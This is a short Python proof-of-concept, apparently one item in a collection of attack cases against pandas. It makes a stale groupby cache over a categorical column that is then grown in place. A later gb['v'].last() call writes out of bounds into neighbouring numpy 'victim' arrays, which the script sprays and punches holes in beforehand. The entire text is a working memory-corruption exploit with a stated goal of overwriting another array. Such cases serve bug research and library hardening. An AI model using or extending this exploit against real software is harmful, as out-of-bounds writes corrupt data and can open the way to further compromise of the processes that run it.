# source: as attack12at_036; DataFrame column Categorical reached with df["k"].array (the block's own object) and grown in place
# family: stale groupby cache over a DataFrame categorical column grown in place -> groupby kernel out-of-bounds write
# goal: gb["v"].last() writes 4242.0 into another numpy array (victim changes)
import numpy as np
import pandas as pd

n = 130                            # int16 codes; kernel buffers are n*8 = 1040 bytes
df = pd.DataFrame({"k": pd.Categorical([0] * 8, categories=list(range(n))), "v": [4242.0] * 8})
gb = df.groupby("k")
print("groups before:", gb.ngroups)  # caches the group count and a view of the column's codes
victims = [np.zeros(n) for _ in range(200)]
for k in range(180, 100, -2):
    victims[k] = None              # holes between live victims
col = df["k"].array                # the column's own Categorical
col.add_categories(list(range(n, n + 10)), inplace=True)
col[:] = [n + 2] * 8
r = gb["v"].last()
print("groups:", len(r), "non-null:", int(r.notna().sum()))
changed = [(k, v[:2].tolist()) for k, v in enumerate(victims) if v is not None and v.any()]
print("victim arrays written by the kernel:", changed)
